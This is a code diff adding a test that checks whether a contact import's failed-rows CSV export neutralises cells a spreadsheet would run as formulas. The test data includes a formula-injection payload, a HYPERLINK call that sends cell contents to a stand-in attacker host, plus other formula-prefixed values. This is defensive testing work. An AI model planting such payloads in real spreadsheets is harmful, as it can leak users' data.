@@ -235,6 +235,27 @@ describe('contact import job', () => {
     expect(await uploads.info(lastUpload)).toBeNull();
   });
 
+  it('neutralises cells a spreadsheet would run as formulas in the failed rows file', async () => {
+    const ws = 'ws-import-formula';
+    const csv = [
+      'Name,Email,=Notes',
+      '=HYPERLINK("http://evil.example/?x="&A1),not-an-email,+cmd',
+      '@SUM(1+1),also-bad,-2+3',
+      '"\tTabbed",bad-too,"\rReturned"',
+      'Number,bad-four,+44 20 7946 0000',
+    ].join('\n');
+    const report = await runImport(ws, csv);
+    expect(report.failed).toBe(4);
+    const failed = await rpc.call(RPC.contacts.importFailedRows, ctx(ws), { id: report.id });
+    expect(failed.csv.split('\r\n').slice(0, 5)).toEqual([
+      "Name,Email,'=Notes,row,error",
+      `"'=HYPERLINK(""http://evil.example/?x=""&A1)",not-an-email,'+cmd,1,Email: not an email address`,
+      "'@SUM(1+1),also-bad,'-2+3,2,Email: not an email address",
+      `'\tTabbed,bad-too,"'\rReturned",3,Email: not an email address`,
+      'Number,bad-four,+44 20 7946 0000,4,Email: not an email address',
+    ]);
+  });
+
   it('pages the report, and filters it by row status', async () => {
     const ws = 'ws-import-pages';
     const lines = ['email'];
